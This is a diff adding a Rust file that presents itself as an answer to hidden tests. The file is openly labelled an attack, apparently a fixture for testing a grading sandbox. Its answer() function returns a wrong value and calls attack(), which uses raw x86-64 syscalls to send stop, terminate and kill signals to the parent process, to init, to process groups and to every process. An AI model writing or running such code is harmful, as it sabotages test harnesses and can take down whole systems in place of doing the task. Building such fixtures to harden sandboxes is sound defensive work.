@@ -1,0 +1,31 @@
+//! Signals everything where unsafe is allowed.
+//!
+//! The package allows unsafe code, so nothing but the sandbox stands in the way.
+
+use std::ffi::c_long;
+
+unsafe extern "C" {
+    fn syscall(number: c_long, ...) -> c_long;
+}
+
+/// Any system call; the numbers in this file are those of x86-64.
+fn call(number: c_long, arguments: [usize; 6]) -> c_long {
+    let [a, b, c, d, e, f] = arguments;
+    // SAFETY: none; this is an attack.
+    unsafe { syscall(number, a, b, c, d, e, f) }
+}
+
+/// What the hidden tests ask for, answered wrongly.
+pub fn answer() -> u32 {
+    attack();
+    0
+}
+
+fn attack() {
+    let parent = call(110, [0; 6]) as usize;
+    for target in [parent, 1, 0_usize.wrapping_sub(parent), usize::MAX, 0] {
+        for signal in [19, 15, 9] {
+            call(62, [target, signal, 0, 0, 0, 0]); // kill
+        }
+    }
+}
